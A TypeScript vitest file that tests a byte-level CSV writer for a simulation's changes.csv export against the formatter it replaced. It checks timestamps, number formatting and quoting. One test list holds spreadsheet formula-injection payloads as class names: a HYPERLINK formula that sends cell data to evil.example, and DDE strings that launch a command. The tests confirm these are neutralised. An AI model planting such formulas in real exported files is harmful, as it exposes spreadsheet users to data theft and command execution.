// The byte writer of changes.csv (issue 14, "Cheaper CSV": cells written as UTF-8 straight into a
// reused buffer) makes exactly the bytes of the simple formatter it replaced — each change's cells
// as an array (changeCells), each cell through csvCell, joined with commas, encoded as UTF-8 — over
// several scenarios, both variants, hostile class names (quotes, commas, line breaks, formulas,
// accents, emoji) and timestamps across days, months, years and a leap day.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { TimeBase } from '../../src/engine/time.js';
import { runReplication } from '../../src/model/replication.js';
import type { ChangeRecord } from '../../src/model/records.js';
import { loadScenario } from '../../src/node/scenario-files.js';
import type { Scenario, Variant } from '../../src/scenario/types.js';
import { CsvByteWriter } from '../../src/run/csv-bytes.js';
import { csvCell } from '../../src/run/csv.js';
import { changeCells, changesCsv, changesCsvBytesOf, num } from '../../src/run/rows.js';

/** The formatter changes.csv used before issue 14: an array of cells per change, each through csvCell. */
function referenceCsv(changes: readonly ChangeRecord[], tb: TimeBase): string {
  let out = '';
  for (const c of changes) out += changeCells(c, tb).map(csvCell).join(',') + '\n';
  return out;
}

const WEEK = 10080;
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', 'small, "quick"', 'large\nslow', '-2.5', 'ünïcödé ✓', '🚀 "launch", 🎉\r\nparty'];

/** One cell as the byte writer writes it, decoded. */
function cellOf(w: CsvByteWriter, write: (w: CsvByteWriter) => void): string {
  write(w);
  return new TextDecoder().decode(w.take());
}

function short(file: string, weeks: number, patch: Partial<Scenario> = {}): Scenario {
  return { ...loadScenario(file), horizon: weeks * WEEK, warmup: WEEK, ...patch };
}

function same(s: Scenario, variants: readonly Variant[] = s.variants): number {
  const tb = new TimeBase(s.start);
  let rows = 0;
  for (const v of variants) {
    for (const r of [1, 2]) {
      const changes = runReplication(s, v, r).changes;
      rows += changes.length;
      const reference = referenceCsv(changes, tb);
      const bytes = changesCsvBytesOf(changes, tb);
      expect(Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length).equals(Buffer.from(reference, 'utf8'))).toBe(true);
      expect(bytes.byteLength).toBe(bytes.buffer.byteLength); // a buffer of its own, safe to transfer
      expect(changesCsv(changes, tb)).toBe(reference);
    }
  }
  return rows;
}

describe('changes.csv writer (issue 14): byte-identical to the simple formatter', () => {
  it('the shipped scenarios, both variants, two replications each', () => {
    for (const file of ['scenarios/ops-run-it.yaml', 'scenarios/ops-run-it-25-teams.yaml', 'scenarios/retail-bank.yaml', 'scenarios/twice-weekly-cab.yaml']) {
      expect(same(short(file, 12))).toBeGreaterThan(100);
    }
  });

  it('hostile class names keep the OWASP neutralisation and the quoting', () => {
    const base = loadScenario('scenarios/ops-run-it.yaml');
    const classes = HOSTILE.map((name, i) => ({ ...base.classes[i % base.classes.length]!, name, share: 1 / HOSTILE.length }));
    const s: Scenario = { ...base, horizon: 10 * WEEK, warmup: WEEK, classes };
    expect(same(s)).toBeGreaterThan(100);
    const text = changesCsv(runReplication(s, 'normal', 1).changes, new TimeBase(s.start));
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
    expect(text).toContain(`,'@SUM(1+1),`);
    expect(text).toContain(`,-2.5,`); // a plain number is left as it is
    expect(text).toContain(`,"🚀 ""launch"", 🎉\r\nparty",`);
  });

  it('no changes: no bytes; the writer grows past its first buffer and starts empty after each take', () => {
    const s = short('scenarios/ops-run-it.yaml', 2);
    const tb = new TimeBase(s.start);
    expect(changesCsvBytesOf([], tb)).toEqual(new Uint8Array(0));
    const changes = runReplication({ ...s, horizon: 60 * WEEK }, 'normal', 1).changes;
    const many = Array.from({ length: 4 }, () => changes).flat(); // well over the first 64 KiB
    const reference = referenceCsv(many, tb);
    expect(Buffer.byteLength(reference)).toBeGreaterThan(1 << 17);
    expect(changesCsv(many, tb)).toBe(reference);
    expect(changesCsv(changes.slice(0, 3), tb)).toBe(referenceCsv(changes.slice(0, 3), tb));
    expect(changesCsvBytesOf([], tb)).toEqual(new Uint8Array(0));
  });

  it('timestamps across a year end and a leap day (start 2027-12-20, 12 weeks)', () => {
    const s = short('scenarios/ops-run-it.yaml', 12, { start: '2027-12-20T00:00' });
    expect(same(s)).toBeGreaterThan(100);
    const text = changesCsv(runReplication(s, 'normal', 1).changes, new TimeBase(s.start));
    expect(text).toContain(',2028-02-29T');
    expect(text).toContain(',2028-01-0');
  });

  it('a timestamp cell equals csvCell(toIso) for any time, fractions and days far apart included', () => {
    for (const start of ['2027-01-04T09:30', '1969-12-31T23:59', '0001-01-01T00:00']) {
      const tb = new TimeBase(start);
      const w = new CsvByteWriter(tb);
      const timestamp = (t: number): string => cellOf(w, (x) => x.timestamp(t));
      fc.assert(
        fc.property(fc.double({ min: -5e6, max: 5e7, noNaN: true }), (t) => {
          expect(timestamp(t)).toBe(csvCell(tb.toIso(t)));
        }),
        { seed: 14, numRuns: 2000 },
      );
      expect(timestamp(NaN)).toBe('');
      expect(timestamp(Infinity)).toBe('');
      expect(timestamp(0.5)).toBe(csvCell(tb.toIso(0.5)));
      expect(timestamp(-0.5)).toBe(csvCell(tb.toIso(-0.5)));
      expect(timestamp(1e12)).toBe(csvCell(tb.toIso(1e12))); // far beyond the cached days
    }
  });
});

describe('changes.csv numbers (issue 14): written from whole part and decimals, the same text as String', () => {
  const w = new CsvByteWriter(new TimeBase('2027-01-04T00:00'));
  const numCell = (x: number, digits: number): string => cellOf(w, (b) => b.num(x, digits));
  const intCell = (x: number): string => cellOf(w, (b) => b.int(x));

  it('int(n) equals csvCell(n) (String) for any number', () => {
    fc.assert(
      fc.property(fc.oneof(fc.double(), fc.integer(), fc.maxSafeInteger(), fc.integer({ min: 0, max: 2000 })), (x) => {
        expect(intCell(x)).toBe(csvCell(x));
      }),
      { seed: 141, numRuns: 5000 },
    );
    for (const x of [0, -0, 9, 10, 99, 100, 1023, 1024, 2 ** 31, 2 ** 32 + 1, 1e15 - 1, 1e15, 1e21, -1, 0.5, NaN, -Infinity]) expect(intCell(x)).toBe(csvCell(x));
  });

  it('num(x, d) equals csvCell(num(x, d)) for any double, 0 to 4 decimals', () => {
    for (const digits of [0, 1, 2, 3, 4]) {
      fc.assert(
        fc.property(fc.oneof(fc.double({ noNaN: false }), fc.double({ min: -1e6, max: 1e6 }), fc.integer({ min: -1e9, max: 1e9 }).map((i) => i / 10 ** digits)), (x) => {
          expect(numCell(x, digits)).toBe(csvCell(num(x, digits)));
        }),
        { seed: 1414, numRuns: 5000 },
      );
    }
    expect(numCell(-0.00004, 4)).toBe('0');
    expect(numCell(2.5, 0)).toBe('3');
    expect(numCell(-2.5, 0)).toBe('-2');
    expect(numCell(1234.5, 2)).toBe('1234.5');
    expect(numCell(-0.1, 4)).toBe('-0.1');
    expect(numCell(1e15, 2)).toBe('1000000000000000');
    expect(numCell(0.05, 4)).toBe('0.05');
    expect(numCell(10.0001, 4)).toBe('10.0001');
    // Either side of 2^31 units of the last decimal, where the writer leaves 32-bit integer arithmetic.
    for (const digits of [0, 2, 4]) {
      for (let u = 2 ** 31 - 3; u <= 2 ** 31 + 3; u++) {
        for (const x of [u / 10 ** digits, -u / 10 ** digits, (u + 0.5) / 10 ** digits]) expect(numCell(x, digits)).toBe(csvCell(num(x, digits)));
      }
    }
    expect(numCell(-9999999.9999, 4)).toBe('-9999999.9999');
    expect(numCell(NaN, 2)).toBe('');
  });
});
